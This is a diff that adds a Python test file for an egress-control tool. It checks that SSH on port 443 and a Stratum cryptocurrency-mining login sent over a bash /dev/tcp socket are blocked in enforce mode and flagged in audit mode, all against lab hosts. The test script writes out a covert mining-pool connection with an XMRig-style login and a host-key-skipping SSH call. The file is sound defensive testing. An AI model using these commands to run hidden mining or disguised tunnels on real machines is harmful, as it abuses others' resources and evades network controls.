@@ -1,0 +1,74 @@
+"""The inline gate in `egress run`: an allowed address spoken to in SSH or Stratum is stopped
+before its first payload byte leaves (the lab's servers record every byte they receive);
+TLS to the same kind of rule passes; audit mode lets it through and flags it."""
+
+import json
+import subprocess
+
+from tests.lab.test_run import EGRESS, stored
+
+PURPOSE = '''version = 1
+purpose = "Install dependencies from the lab's index"
+task = "lab-gate"
+
+[[allow]]
+host = "pypi.lab"
+
+[[allow]]
+host = "cdn.lab"
+
+[[allow]]
+host = "pool.lab"
+ports = [3333]
+protocol = "any"
+'''
+
+LOGIN = ('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4Ab","pass":"x",'
+         '"agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"}}')
+
+
+def setup(lab):
+    lab.start_dns({"pypi.lab": "203.0.113.10", "cdn.lab": "203.0.113.30",
+                   "pool.lab": "198.51.100.42"})
+    lab.start_https("pypi.lab", "203.0.113.10")
+    return (lab.start_listener("203.0.113.30", 443),
+            lab.start_listener("198.51.100.42", 3333))
+
+
+def run(lab, mode):
+    purpose = lab.dir / "purpose.toml"
+    purpose.write_text(PURPOSE)
+    script = ("curl -sk --max-time 5 -o /dev/null -w 'tls %{http_code}\\n' https://pypi.lab/; "
+              "ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -p 443 "
+              "cdn.lab true; echo ssh=$?; "
+              f"timeout 3 bash -c 'exec 3<>/dev/tcp/pool.lab/3333; echo {json.dumps(LOGIN)} >&3; "
+              "sleep 1'; echo stratum=$?")
+    return lab.host(EGRESS, "run", "--task", "lab-gate", "--purpose", purpose, "--mode", mode,
+                    "--db", lab.dir / "egress.db", "--", "sh", "-c", script, timeout=90,
+                    check=False)
+
+
+def test_enforce_stops_ssh_and_stratum_on_allowed_addresses_before_a_byte_leaves(lab):
+    ssh_got, pool_got = setup(lab)
+    done = run(lab, "enforce")
+    assert "tls 200" in done.stdout, done.stdout + done.stderr
+    assert "ssh=255" in done.stdout
+    assert ssh_got.read_bytes() == b""          # no client banner reached the server
+    assert pool_got.read_bytes() == b""         # no login reached the pool
+    assert "2 blocked before their first payload left" in done.stderr, done.stderr
+    records = {r["dport"]: r for r in stored(lab) if r.get("kind") == "flow"
+               and r["dst"] in ("203.0.113.30", "198.51.100.42")}
+    assert records[443]["app"] == "ssh" and records[443]["verdict"] == "block"
+    assert records[3333]["app"] == "stratum" and records[3333]["verdict"] == "block"
+    assert "mining-stratum" in {f["id"] for f in records[3333]["findings"]}
+
+
+def test_audit_lets_them_through_and_flags_them(lab):
+    ssh_got, pool_got = setup(lab)
+    done = run(lab, "audit")
+    assert "tls 200" in done.stdout, done.stdout + done.stderr
+    assert ssh_got.read_bytes().startswith(b"SSH-2.0-")
+    assert b'"method":"login"' in pool_got.read_bytes()
+    verdicts = {r["dport"]: r["verdict"] for r in stored(lab) if r.get("kind") == "flow"
+                and r["dst"] in ("203.0.113.30", "198.51.100.42")}
+    assert verdicts == {443: "flag", 3333: "flag"}
